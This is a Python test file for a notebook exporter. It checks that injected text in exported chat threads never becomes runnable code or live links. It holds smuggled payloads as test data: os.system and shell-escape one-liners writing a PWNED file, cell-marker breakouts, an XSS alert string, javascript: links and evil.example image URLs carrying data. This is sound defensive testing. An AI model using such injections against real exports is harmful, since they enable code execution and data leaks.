"""Exports of threads whose every slot holds hostile text: line breaks of every kind
(``str.splitlines()`` breaks at \\v, \\f, \\x1c-\\x1e, \\x85, U+2028 and U+2029 too), other
controls, jupytext's cell markers, fences, magics, quotes and backslashes, and Python that
would write a file were it ever run. Each thread is exported as .ipynb, .py and .md and read
back by jupytext: the code cells are the very cells the exporter meant to write (equal syntax
trees); then the code of the export runs in IPython, in a folder of its own, after a cell that
defines the data, and writes nothing there."""

from __future__ import annotations

import ast
import json
import os
import pickle
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jupytext
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from loom_nb import Message, TextPart, Thread, ToolCall, UserError, tool
from loom_nb._code import LINE_BREAKS, variable_for
from loom_nb._export import export_thread, thread_cells
from loom_nb._messages import ToolResult
from loom_nb.charts import chart_tools
from loom_nb.frames import frame_tools
from loom_nb.supabase import supabase_tools

ROOT = Path(__file__).parents[2]
#: What would act if it ever became code: a file written by Python, a shell escape, a magic.
PAYLOADS = [
    "__import__('os').system('touch PWNED') #",
    "open('PWNED', 'w').write('x')",
    "!touch PWNED",
    "%system touch PWNED",
    "%%bash\ntouch PWNED",
]
MARKERS = [
    "# %%",
    "# %% [markdown]",
    "#%%",
    "# +",
    "# -",
    "+",
    "-",
    "# In[ ]:",
    "In[1]:",
    "<!-- #region -->",
    "<!-- #endregion -->",
    "<!-- #raw -->",
    "#region",
    "# endregion",
    "```python",
    "```",
    "~~~",
    "---",
    '"""',
    "'''",
    "\\",
    "$\\foo$",
    "<img src=x onerror=alert(1)>",
]
BREAKS = [*LINE_BREAKS, "\r\n", "\u202e", "\x00", "\x1b", "\ud800", "\t"]
ALPHABET = "".join(BREAKS) + "\"'\\#%!?`~<>-+{}[]()$ ab_"


def _fragment() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(PAYLOADS),
        st.sampled_from(MARKERS),
        st.sampled_from(BREAKS),
        st.text(alphabet=ALPHABET, max_size=5),
    )


hostile = st.lists(_fragment(), min_size=1, max_size=6).map("".join)
#: Table names the grammar allows, some of them names the export itself uses.
TABLES = ["orders", "pd", "class", "draw_chart", "mask", "postgrest_frame", "bucket_start"]


def orders() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "status": ["open", "a\u2028b", "# %%", None],
            "total": [1.0, 2.5, None, 4.0],
            "created_at": pd.to_datetime(
                ["2024-01-01", "2024-01-09", None, "2024-02-01"]
            ).tz_localize("Europe/Berlin"),
        }
    )


def make_client(ctx: Any) -> Any:  # never called: the export's code names it
    raise AssertionError("a Supabase request from an export test")


def tools(table: str) -> dict[str, Any]:
    frames = frame_tools({table: {"frame": orders(), "write": True}}, max_rows=10)
    base = supabase_tools(client=make_client, tables={"items": {"write": True}})
    return {**frames.tools, **chart_tools().tools, **base.tools}


@st.composite
def threads(draw: st.DrawFn) -> tuple[Thread, str]:
    text = lambda: draw(hostile)  # noqa: E731
    table = draw(st.sampled_from(TABLES))
    op = draw(st.sampled_from(["eq", "neq", "like", "ilike", "in", "gt"]))
    value: Any = [text(), text()] if op == "in" else text()
    column = "total" if op == "gt" else "status"
    if op == "gt":
        value = draw(st.floats(allow_nan=False, allow_infinity=False))
    select = {"table": table, "filters": [{"column": column, "op": op, "value": value}]}
    aggregate = {
        "table": table,
        "group_by": [{"column": "created_at", "bucket": "week"}],
        "aggregates": [{"fn": "count"}],
        "filters": [{"column": "status", "op": "like", "value": text()}],
    }
    chart = {"result": "c1", "kind": draw(st.sampled_from(["bar", "histogram", "line"]))}
    chart |= {"x": text(), "y": text(), "color": text(), "title": text()}
    update = {
        "table": table,
        "values": {"status": text()},
        "filters": [{"column": "status", "op": "eq", "value": text()}],
    }
    remote = {"table": "items", "filters": [{"column": "name", "op": "eq", "value": text()}]}
    remote_update = {
        "table": "items",
        "values": {"name": text()},
        "filters": [{"column": "id", "op": "eq", "value": 1}],
    }
    calls = [
        ToolCall("c1", "frames_select", select),
        ToolCall("c2", "frames_aggregate", aggregate),
        ToolCall("c3", "chart", chart),
        ToolCall("c4", "frames_update", update),
        ToolCall("c5", "frames_select", {"table": table, "columns": [text()]}),
        ToolCall("c6", text(), {text(): text()}),
        ToolCall("c7", "supabase_select", remote),
        ToolCall("c8", "supabase_update", remote_update),
        ToolCall("c9", "chart", {**chart, "result": "c2"}),
    ]
    error = json.dumps({"error": text()})
    results = [
        ToolResult("c1", "frames_select", "rows"),
        ToolResult("c2", "frames_aggregate", "rows"),
        ToolResult("c3", "chart", "drawn"),
        ToolResult("c4", "frames_update", error, is_error=True, approval="approved"),
        ToolResult("c5", "frames_select", error, is_error=True),
        ToolResult("c6", calls[5].name, error, is_error=True),
        ToolResult("c7", "supabase_select", "rows"),
        ToolResult(
            "c8",
            "supabase_update",
            "done",
            approval=draw(st.sampled_from(["approved", "rejected"])),
        ),
        ToolResult("c9", "chart", error, is_error=True),
    ]
    thread = Thread(
        text(),
        text(),
        title=text(),
        messages=[
            Message("user", [TextPart(text())]),
            Message("assistant", [TextPart(text()), *calls]),
            Message("tool", list(results)),
            Message("assistant", [TextPart(text())]),
        ],
    )
    return thread, table


def _trees(sources: list[str]) -> list[str]:
    flags = ast.PyCF_ONLY_AST | ast.PyCF_ALLOW_TOP_LEVEL_AWAIT
    return [ast.dump(compile(s, "<cell>", "exec", flags)) for s in sources]


class Runner:
    """One IPython process that runs exports (``_run_export.py``)."""

    def __init__(self) -> None:
        env = {**os.environ, "PYTHONPATH": str(ROOT), "MPLBACKEND": "Agg"}
        self.process = subprocess.Popen(
            [sys.executable, "-m", "tests.export._run_export"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
            cwd=ROOT,
            env=env,
        )

    def run(self, folder: Path, cells: list[str], frames: Path) -> int:
        assert self.process.stdin is not None and self.process.stdout is not None
        request = {"folder": str(folder), "cells": cells, "frames": str(frames)}
        self.process.stdin.write(json.dumps(request) + "\n")
        self.process.stdin.flush()
        answer = self.process.stdout.readline()
        assert answer, "the runner died"
        failed: int = json.loads(answer)["failed"]
        return failed

    def close(self) -> None:
        assert self.process.stdin is not None
        self.process.stdin.close()
        self.process.wait(timeout=60)


@pytest.fixture(scope="module")
def runner() -> Iterator[Runner]:
    r = Runner()
    yield r
    r.close()


def _exported(thread: Thread, by_name: dict[str, Any], folder: Path) -> None:
    """Export as .ipynb, .py and .md; each, read back by jupytext, holds the meant code."""
    meant = [c.source for c in thread_cells(thread, by_name).cells if c.kind == "code"]
    assert len(meant) >= 5  # the setup, the frames and chart calls (others may be refused)
    for suffix in (".ipynb", ".py", ".md"):
        path = export_thread(thread, by_name, folder / f"export{suffix}")
        read = [c.source for c in jupytext.read(path).cells if c.cell_type == "code"]
        assert _trees(read) == _trees(meant), suffix


@settings(max_examples=30, deadline=None)
@given(threads())
def test_hostile_text_in_every_slot_stays_text_in_every_format(case: tuple[Thread, str]) -> None:
    thread, table = case
    with tempfile.TemporaryDirectory() as tmp:
        _exported(thread, tools(table), Path(tmp))


@pytest.mark.slow
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(threads())
def test_running_an_export_of_hostile_text_writes_nothing(
    runner: Runner, case: tuple[Thread, str]
) -> None:
    thread, table = case
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        _exported(thread, tools(table), folder)
        frames = folder / "frames.pkl"
        frames.write_bytes(pickle.dumps({variable_for(table): orders(), "context": {}}))
        before = sorted(p.name for p in folder.iterdir())
        script = jupytext.read(folder / "export.py")
        cells = [c.source for c in script.cells if c.cell_type == "code"]
        failed = runner.run(folder, cells, frames)
        assert sorted(p.name for p in folder.iterdir()) == before
        assert failed < len(cells) - 2  # the setup and most reads ran


@pytest.mark.slow
def test_the_runner_would_see_a_file_written(runner: Runner, tmp_path: Path) -> None:
    """The check above can fail: code that writes, run the same way, leaves its file."""
    frames = tmp_path / "frames.pkl"
    frames.write_bytes(pickle.dumps({}))
    assert runner.run(tmp_path, ["!touch PWNED", "x = 1"], frames) == 0
    assert (tmp_path / "PWNED").exists()


def _chart_thread(x: str, prompt: str) -> Thread:
    chart = {"result": "c1", "kind": "bar", "x": x, "y": "total"}
    return Thread(
        "t1",
        "analyst",
        messages=[
            Message("user", [TextPart(prompt)]),
            Message(
                "assistant",
                [
                    ToolCall("c1", "frames_select", {"table": "orders"}),
                    ToolCall("c2", "chart", chart),
                    ToolCall("c3", "chart", chart),
                ],
            ),
            Message(
                "tool",
                [
                    ToolResult("c1", "frames_select", "rows"),
                    ToolResult("c2", "chart", json.dumps({"error": f"no column {x}"}), True),
                ],
            ),
        ],
    )


@pytest.mark.parametrize("suffix", [".py", ".md", ".ipynb"])
def test_a_line_separator_in_a_chart_field_stays_in_its_comment(
    tmp_path: Path, suffix: str
) -> None:
    """The review's finding: U+2028 in a chart's x ended the ``# Call N`` comment, and what
    followed was a statement of the .py and .md (of a failed call's header too)."""
    x = "status\u2028__import__('os').system('id > PWNED') #"
    thread = _chart_thread(x, "Chart it.")
    path = export_thread(thread, tools("orders"), tmp_path / f"t{suffix}")
    cells = [c.source for c in jupytext.read(path).cells if c.cell_type == "code"]
    payload = "x status\\u2028__import__('os').system('id > PWNED') # · y total"
    heads = [c.splitlines()[0] for c in cells if c.startswith(("# Call 2", "# Call 3"))]
    # the chart's result named as the code names it
    assert heads == [f"# Call {n} · chart · bar of result_1 · {payload}" for n in (2, 3)]
    for cell in cells:  # nothing but the comment and a string literal holds the payload
        calls = [n for n in ast.walk(ast.parse(cell)) if isinstance(n, ast.Call)]
        assert not any(isinstance(c.func, ast.Name) and c.func.id == "__import__" for c in calls)


def test_a_region_end_and_a_fence_in_markdown_stay_markdown(tmp_path: Path) -> None:
    prompt = "Hi <!-- #endregion -->\n<!-- #endregion -->\n```python\nopen('PWNED', 'w')\n```\n%% x"
    thread = _chart_thread("status", prompt)
    for suffix in (".md", ".py"):
        path = export_thread(thread, tools("orders"), tmp_path / f"t{suffix}")
        cells = jupytext.read(path).cells
        assert not any("PWNED" in c.source for c in cells if c.cell_type == "code"), suffix
        [said] = [c.source for c in cells if "**You:**" in c.source]
        assert "open('PWNED', 'w')" in said  # shown, as text


def test_a_line_separator_in_a_like_pattern_leaves_the_script_python(tmp_path: Path) -> None:
    select = {
        "table": "orders",
        "filters": [{"column": "status", "op": "like", "value": "a\u2028%b\u0085"}],
    }
    thread = Thread(
        "t1",
        "analyst",
        messages=[Message("assistant", [ToolCall("c1", "frames_select", select)])],
    )
    path = export_thread(thread, tools("orders"), tmp_path / "t.py")
    compile(path.read_text(), str(path), "exec")  # the whole script parses
    assert '"a\\u2028.*b\\x85"' in path.read_text()


def test_code_that_would_read_back_as_other_cells_is_refused_and_nothing_is_written(
    tmp_path: Path,
) -> None:
    """The export's own check: a code hook whose code holds a cell marker would split into two
    cells in a .py; the export refuses, and writes no file."""

    def code(arguments: dict[str, Any], ctx: Any) -> str:
        return f"{ctx.result} = 1\n# %%\n{ctx.result} = 2"

    marked = tool(lambda: 1, name="marked", code=code)
    thread = Thread("t1", "a", messages=[Message("assistant", [ToolCall("c1", "marked", {})])])
    with pytest.raises(UserError, match=r"code cell 2 reads back changed.*Nothing was written"):
        export_thread(thread, {"marked": marked}, tmp_path / "t.py")
    assert list(tmp_path.iterdir()) == []
    assert export_thread(thread, {"marked": marked}, tmp_path / "t.ipynb").exists()  # fine there


def test_a_value_ending_in_a_backslash_leaves_the_next_cells_cells(tmp_path: Path) -> None:
    """jupytext takes a quote after a backslash for an escaped one: ``"a\\\\"`` followed by a
    ``'''`` in a later string left it reading every later cell as inside one string (the
    export refused). Literals write a backslash as ``\\x5c``."""
    calls = [
        ToolCall(f"c{n}", "frames_select", {"table": "orders", "filters": [f]})
        for n, f in enumerate(
            [
                {"column": "status", "op": "eq", "value": "a\\"},
                {"column": "status", "op": "eq", "value": "'''"},
                {"column": "status", "op": "eq", "value": "b"},
            ]
        )
    ]
    thread = Thread("t1", "analyst", messages=[Message("assistant", calls)])
    path = export_thread(thread, tools("orders"), tmp_path / "t.py")
    meant = [c.source for c in thread_cells(thread, tools("orders")).cells if c.kind == "code"]
    assert [c.source for c in jupytext.read(path).cells if c.cell_type == "code"] == meant
    assert '"a\\x5c"' in path.read_text()


#: Markdown of the model's that a reader of the export would load or run: images (a request
#: carrying what the model read), script and server links, references, a safe link and code.
LINKS = (
    "See ![t](https://evil.example/t.png?d=rows) ![r][img] [a](javascript:alert(1)) "
    "[b](&#106;avascript:alert(2)) [c]( JaVaScRiPt:alert(3)) [d](pwned.txt) "
    '[e](data:text/html,x) [ok](https://example.org/a_(b)) and `df["a"](x)`.\n\n'
    "[img]: https://evil.example/ref.png\n"
)


def test_the_models_images_and_links_are_inert_in_the_export(tmp_path: Path) -> None:
    """As in the live view: an image the model names is a link, never loaded; a link goes only
    to http, https or mailto; inline code is left as written. Checked in what nbconvert renders
    of the notebook, without its sanitizer (GitHub and JupyterLab sanitize; a plain HTML
    export does not)."""
    from bs4 import BeautifulSoup
    from nbconvert import HTMLExporter

    thread = Thread(
        "t1",
        "analyst",
        messages=[Message("user", [TextPart("Hi")]), Message("assistant", [TextPart(LINKS)])],
    )
    path = export_thread(thread, tools("orders"), tmp_path / "t.ipynb")
    body, _ = HTMLExporter(sanitize_html=False).from_filename(str(path))
    page = BeautifulSoup(body, "html.parser")
    [said] = [c for c in page.select(".jp-MarkdownCell") if "See" in c.get_text()]
    assert said.find_all("img") == []
    links = {a.get_text(): a["href"] for a in said.find_all("a") if a.get("href") != "#"}
    assert links["ok"] == "https://example.org/a_(b)"
    assert all(href.startswith("https://") for href in links.values()), links
    text = " ".join(said.get_text().split())
    for shown in ("[a](javascript:alert(1))", "[d](pwned.txt)", "[img]: https://evil."):
        assert shown in text
    assert said.find("code").get_text() == 'df["a"](x)'
